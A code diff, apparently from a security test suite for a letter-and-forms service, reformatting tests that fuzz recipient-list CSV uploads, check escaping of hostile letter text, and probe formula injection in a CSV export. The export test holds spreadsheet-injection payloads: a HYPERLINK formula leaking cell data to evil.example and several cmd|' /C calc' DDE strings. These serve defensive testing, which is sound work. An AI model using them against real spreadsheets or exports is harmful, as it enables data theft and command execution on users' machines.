@@ -48,11 +48,7 @@ let r: ApiClient;
 let projectId = '';
 
 const counts = async () => {
-  const [letters, lists, tasks] = await Promise.all([
-    r.get(`/projects/${projectId}/letters`),
-    r.get(`/projects/${projectId}/recipient-lists`),
-    r.get(`/projects/${projectId}/form-tasks`),
-  ]);
+  const [letters, lists, tasks] = await Promise.all([r.get(`/projects/${projectId}/letters`), r.get(`/projects/${projectId}/recipient-lists`), r.get(`/projects/${projectId}/form-tasks`)]);
   return { letters: letters.body.items.length, lists: lists.body.items.length, formTasks: tasks.body.items.length };
 };
 
@@ -93,9 +89,9 @@ describe('hostile recipient lists', () => {
         fc.oneof(
           fc.uint8Array({ minLength: 1, maxLength: 2_000 }).map((a) => Buffer.from(a)),
           fc.string({ unit: 'binary', maxLength: 500 }).map((s) => `nin,name\n${s}`),
-          fc.array(fc.array(fc.oneof(fc.constantFrom(...syntheticNins(5, 33_000)), fc.string({ maxLength: 30 })), { maxLength: 6 }), { maxLength: 20 }).map((rows) =>
-            ['nin,name,language', ...rows.map((cells) => cells.join(fc.sample(fc.constantFrom(',', ';', '\t', '|'), 1)[0]))].join('\n'),
-          ),
+          fc
+            .array(fc.array(fc.oneof(fc.constantFrom(...syntheticNins(5, 33_000)), fc.string({ maxLength: 30 })), { maxLength: 6 }), { maxLength: 20 })
+            .map((rows) => ['nin,name,language', ...rows.map((cells) => cells.join(fc.sample(fc.constantFrom(',', ';', '\t', '|'), 1)[0]))].join('\n')),
         ),
         async (body) => {
           const before = (await counts()).lists;
@@ -218,7 +214,11 @@ describe('hostile letter text', () => {
     expect(letter.status, letter.text).toBe(201);
     const sent = await r.post(`/projects/${projectId}/letters/${letter.body.letterId}/test-send`, { nins: [tester] });
     expect(sent.status, sent.text).toBeLessThan(300);
-    const items = await waitFor(() => inboxOf(tester), (i) => i.some((x) => x.subject === subject), 60_000);
+    const items = await waitFor(
+      () => inboxOf(tester),
+      (i) => i.some((x) => x.subject === subject),
+      60_000,
+    );
     const item = items.find((x) => x.subject === subject)!;
     expect(item.body.startsWith(markup), item.body).toBe(true);
     expect(item.body).not.toContain('&lt;script');
@@ -233,7 +233,11 @@ describe('hostile letter text', () => {
     expect(letter.status, letter.text).toBe(201);
     const sent = await r.post(`/projects/${projectId}/letters/${letter.body.letterId}/test-send`, { nins: [tester] });
     expect(sent.status, sent.text).toBeLessThan(300);
-    const items = await waitFor(() => inboxOf(tester), (i) => i.some((x) => x.subject === subject), 60_000);
+    const items = await waitFor(
+      () => inboxOf(tester),
+      (i) => i.some((x) => x.subject === subject),
+      60_000,
+    );
     const delivered = items.find((x) => x.subject === subject)!.body;
     expect(delivered.startsWith('Linje 1\nLinje 2\tfane nul bjelle [31mANSI[0m RTL-overstyring \u200bnullbredde \ud83d\ude00'), JSON.stringify(delivered)).toBe(true);
     // Nothing a terminal, a log viewer or a bidi-aware renderer would interpret.
@@ -332,7 +336,7 @@ describe('formula injection in the form-responses CSV export', () => {
       '=HYPERLINK("https://evil.example/?leak="&A1,"Klikk her")',
       "+cmd|' /C calc'!A0",
       "-cmd|' /C calc'!A0",
-      '@SUM(1+1)*cmd|\' /C calc\'!A0',
+      "@SUM(1+1)*cmd|' /C calc'!A0",
       '\t=1+1',
       '\r=1+1',
       '-2+3',
@@ -343,7 +347,11 @@ describe('formula injection in the form-responses CSV export', () => {
     expect(sent.status, sent.text).toBeLessThan(300);
     for (const [i, nin] of citizens.entries()) {
       const c = p.as({ sub: nin, role: 'citizen' });
-      await waitFor(async () => (await c.get('/citizen/tasks')).body.items as { taskId: string }[], (items) => items.some((t) => t.taskId === formTaskId), 60_000);
+      await waitFor(
+        async () => (await c.get('/citizen/tasks')).body.items as { taskId: string }[],
+        (items) => items.some((t) => t.taskId === formTaskId),
+        60_000,
+      );
       const answered = await c.post(`/citizen/tasks/${formTaskId}/answers`, { answers: { svar: payloads[i] } });
       expect(answered.status, answered.text).toBe(200);
     }
